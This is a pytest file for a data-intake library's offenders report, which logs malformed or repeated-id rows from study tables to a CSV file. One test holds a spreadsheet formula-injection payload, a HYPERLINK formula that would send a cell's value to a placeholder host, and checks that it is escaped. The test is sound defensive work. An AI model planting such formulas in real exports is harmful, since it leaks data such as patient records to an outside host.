"""Rows that do not fit: all of them, in bounded memory, with the values of the right rows."""

import csv
import stat
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from tests.support.simulator import LocalStudy, Simulator, holding
from veiltab.core.schema import Attribute, Schema
from veiltab.data.feeding import Reading, feed
from veiltab.data.frames import FrameTable
from veiltab.data.offenders import Offenders, Repeats
from veiltab.data.table_format import TableFormat
from veiltab.data.tables import Table
from veiltab.errors import LinkageError, MisfitError, OutputError, ValueNotInSchemaError
from veiltab.protocol.curator.table import Duplicates, Intake
from veiltab.protocol.in_process import Terms
from veiltab.protocol.sorting import MemorySpool
from veiltab.wire.contract import Linkage

SCHEMA = Schema([Attribute("smoker", ["no", "yes"])])
BY_ID = Linkage.by_ids(1, ("trim", "lowercase"))


@pytest.fixture(scope="module")
def staged() -> LocalStudy:
    """Return an open study whose first curator holds one attribute."""
    own = replace(holding({"smoker": 2}, range(40)), attributes=SCHEMA.attributes)
    return Simulator(holdings=[own]).study(Terms(epsilon=1.0, sample_size=10))


def read(
    staged: LocalStudy,
    table: Table,
    ids: Sequence[str] = ("id",),
    *,
    file: Path | None = None,
    linkage: Linkage = BY_ID,
    batch_rows: int = 1000,
    duplicates: Duplicates = "refuse",
) -> Reading:
    """Read a table, and write what does not fit to a file."""
    me = staged.contract.curators[0].party_id
    intake = Intake(
        staged.contract, staged.secret, SCHEMA, MemorySpool(), curator=me, duplicates=duplicates
    )
    offenders = Offenders(file)
    reading = feed(intake, table, linkage, ids, offenders=offenders, batch_rows=batch_rows)
    offenders.finish()
    return reading


def lines(file: Path) -> list[list[str]]:
    """Return the lines of a file, sorted by problem and row."""
    with file.open(newline="", encoding="utf-8") as opened:
        header, *found = csv.reader(opened)
    assert header == ["row", "column", "value", "problem", "first_row"]
    return sorted(found, key=lambda line: (line[3], int(line[0])))


def messy(rows: int) -> pl.DataFrame:
    """Return a table of which every tenth row has each of three mistakes."""
    ids = ["" if i % 10 == 3 else f"P{i - 4}" if i % 10 == 9 else f"p{i} " for i in range(rows)]
    return pl.DataFrame({"id": ids, "smoker": ["?" if i % 10 == 1 else "no" for i in range(rows)]})


@pytest.mark.parametrize("batch_rows", [1, 7, 64, 1000])
def test_all_of_them_however_the_table_is_cut(
    staged: LocalStudy, tmp_path: Path, batch_rows: int
) -> None:
    """Every row, once, with its own value; the errors show the first few."""
    file = tmp_path / "offenders.csv"
    reading = read(staged, FrameTable(messy(100)), file=file, batch_rows=batch_rows)
    assert reading.rows == 100
    expected = [[f"{i + 1}", "id", "", "empty id", ""] for i in range(3, 100, 10)]
    expected += [[f"{i + 1}", "smoker", "?", "no category", ""] for i in range(1, 100, 10)]
    pairs = [(i, f"p{i} ", i) for i in range(5, 100, 10)]
    pairs += [(i, f"P{i - 4}", i - 4) for i in range(9, 100, 10)]
    expected += [
        [f"{row + 1}", "id", value, "repeated id", f"{first + 1}"]
        for row, value, first in sorted(pairs)
    ]
    assert lines(file) == expected
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [file]
    values, empty, repeated = reading.problems
    assert isinstance(values, ValueNotInSchemaError)
    assert "10 rows have an empty id in column 'id' (row 4: ''; row 14: ''" in empty.message
    assert repeated.message == (
        "20 rows share an id with another row, such as rows 6, 10, 16, 20, 26\n  row 6: 'p5 '\n"
        "  row 10: 'P5'\n  row 16: 'p15 '\n  row 20: 'P15'\n  row 26: 'p25 '"
    )
    with pytest.raises(MisfitError, match="for 3 reasons") as caught:
        reading.check()
    assert caught.value.problems == reading.problems
    assert all(problem.hint in caught.value.message for problem in reading.problems)


@pytest.mark.parametrize("duplicates", ["first", "last", "identical"])
@pytest.mark.parametrize("batch_rows", [1, 2, 1000])
def test_a_rule_for_repeated_ids_hides_no_other_mistake(
    staged: LocalStudy, tmp_path: Path, duplicates: Duplicates, batch_rows: int
) -> None:
    """Nor does another mistake make rows look different that are identical."""
    frame = pl.DataFrame(
        {
            "id": ["a", "b", " ", "A", "", "a", "c\x07", "c\x07"],
            "smoker": ["yes", "no", "no", "yes", "?", "yes", "no", "no"],
        }
    )
    file = tmp_path / "offenders.csv"
    reading = read(
        staged, FrameTable(frame), file=file, batch_rows=batch_rows, duplicates=duplicates
    )
    assert lines(file) == [
        ["7", "id", "c\x07", "control character in id", ""],
        ["8", "id", "c\x07", "control character in id", ""],
        ["3", "id", "", "empty id", ""],
        ["5", "id", "", "empty id", ""],
        ["5", "smoker", "?", "no category", ""],
    ]
    assert len(reading.problems) == 2
    fixed = FrameTable(frame.filter(pl.col("smoker") != "?"))
    assert len(read(staged, fixed, batch_rows=batch_rows, duplicates=duplicates).problems) == 1


def test_no_value_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    """Anybody may have written a value, such as a patient into a form."""
    offenders = Offenders(tmp_path / "rows.csv")
    value = '=HYPERLINK("https://e.example/?"&A2)'
    offenders.add("no category", "@smoker", pl.Series([7]), pl.Series([value]))
    offenders.finish()
    assert lines(tmp_path / "rows.csv")[0][:3] == ["7", "'@smoker", f"'{value}"]


def test_ids_of_several_columns_and_odd_characters(staged: LocalStudy, tmp_path: Path) -> None:
    """Each column has its own mistakes, and a repeated id has all its parts."""
    frame = pl.DataFrame(
        {
            "given": ["Ann", "Bob", None, "Ann", "C\x07l"],
            "born": [1990, 1991, 1992, 1990, None],
            "smoker": "no",
        }
    )
    file = tmp_path / "offenders.csv"
    linkage = Linkage.by_ids(2, ())
    reading = read(staged, FrameTable(frame), ("given", "born"), file=file, linkage=linkage)
    assert lines(file) == [
        ["5", "given", "C\x07l", "control character in id", ""],
        ["3", "given", "", "empty id", ""],
        ["5", "born", "", "empty id", ""],
        ["1", "given, born", "Ann + 1990", "repeated id", "1"],
        ["4", "given, born", "Ann + 1990", "repeated id", "1"],
    ]
    assert len(reading.problems) == 2
    with pytest.raises(MisfitError):
        reading.check()


class Restless:
    """A database that returns its rows in another order each time."""

    def __init__(self, frame: pl.DataFrame) -> None:
        """Start with the order of the frame."""
        self._frame, self._reads = frame, 0

    @property
    def columns(self) -> Mapping[str, pl.DataType]:
        """The columns of the frame."""
        return self._frame.schema

    @property
    def format(self) -> TableFormat:
        """How frames are read."""
        return FrameTable(self._frame).format

    def batches(self, columns: Sequence[str], rows: int) -> Iterator[pl.DataFrame]:
        """Yield the rows in order, and backwards the next time."""
        self._reads += 1
        frame = self._frame if self._reads % 2 else self._frame.reverse()
        yield from frame.select(columns).iter_slices(rows)

    def row_count(self) -> None:
        """Say nothing."""


def test_no_id_stands_beside_another_row(staged: LocalStudy, tmp_path: Path) -> None:
    """If the order has changed when ids are looked up, they are left out."""
    frame = pl.DataFrame({"id": ["a", "a", "b", "c"], "smoker": "no"})
    file = tmp_path / "offenders.csv"
    reading = read(staged, Restless(frame), file=file)
    assert lines(file) == [
        ["1", "id", "", "repeated id", "1"],
        ["2", "id", "", "repeated id", "1"],
    ]
    (problem,) = reading.problems
    assert problem.message == "2 rows share an id with another row, such as rows 1, 2"
    with pytest.raises(LinkageError):
        reading.check()


def test_without_a_file_everything_is_counted(staged: LocalStudy) -> None:
    """And a table that fits has no problem and leaves no file."""
    assert [len(read(staged, FrameTable(messy(n))).problems) for n in (1, 100)] == [0, 3]


def test_a_file_is_new_or_not_there(staged: LocalStudy, tmp_path: Path) -> None:
    """A name that is taken is refused before the table is read, or else when it is finished."""
    file = tmp_path / "offenders.csv"
    assert read(staged, FrameTable(messy(1)), file=file).problems == ()
    assert not file.exists()
    late = Offenders(file)
    late.add("no category", "smoker", pl.Series([1]), pl.Series(["?"]))
    file.write_text("somebody else's")
    with pytest.raises(OutputError, match="File exists"):
        late.finish()
    with pytest.raises(OutputError, match="exists already"):
        Offenders(file)
    assert [path.read_text() for path in tmp_path.iterdir()] == ["somebody else's"]
    gone = Offenders(tmp_path / "other.csv")
    gone.add("no category", "smoker", pl.Series([1]), pl.Series(["?"]))
    gone.discard()
    assert len(list(tmp_path.iterdir())) == 1


def test_repeats_are_found_by_row_wherever_parts_begin() -> None:
    """Rows of many partitions, added in any order, come back in order."""
    repeats = Repeats(MemorySpool())
    rows = np.array([5, 1 << 18, (1 << 18) - 1, 3 << 18], dtype=np.int64)
    tokens = np.repeat(np.arange(2, dtype=np.uint8), 2)[:, None] * np.ones(16, dtype=np.uint8)
    repeats.add(rows, tokens)
    assert repeats.among(1, 4 << 18)["row"].tolist() == sorted((rows + 1).tolist())
    assert repeats.among(7, 1 << 18)["row"].tolist() == [1 << 18, (1 << 18) + 1]
    found = repeats.among(1, 4 << 18)
    assert dict(zip(found["row"].tolist(), found["first"].tolist(), strict=True)) == {
        6: 6,
        1 << 18: 1 << 18,
        (1 << 18) + 1: 6,
        (3 << 18) + 1: 1 << 18,
    }
